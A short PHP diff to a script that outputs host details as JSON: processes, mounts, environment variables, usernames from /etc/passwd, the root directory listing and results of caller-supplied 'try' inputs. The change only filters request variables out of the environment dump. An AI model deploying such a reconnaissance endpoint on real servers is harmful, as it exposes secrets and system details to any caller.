@@ -31,7 +31,8 @@ echo json_encode([
     'processes' => $processes,
     'mounts' => file('/proc/self/mountinfo', FILE_IGNORE_NEW_LINES),
     'host_name' => gethostname(),
-    'environment' => getenv(),
+    // PHP puts the variables of the request there too.
+    'environment' => array_diff_key(getenv(), $_SERVER),
     'passwd' => array_map(fn($line) => strtok($line, ':'), file('/etc/passwd')),
     'top' => array_values(array_diff(scandir('/'), ['.', '..'])),
     'attempts' => array_combine($_POST['try'] ?? [], array_map($attempt, $_POST['try'] ?? [])),
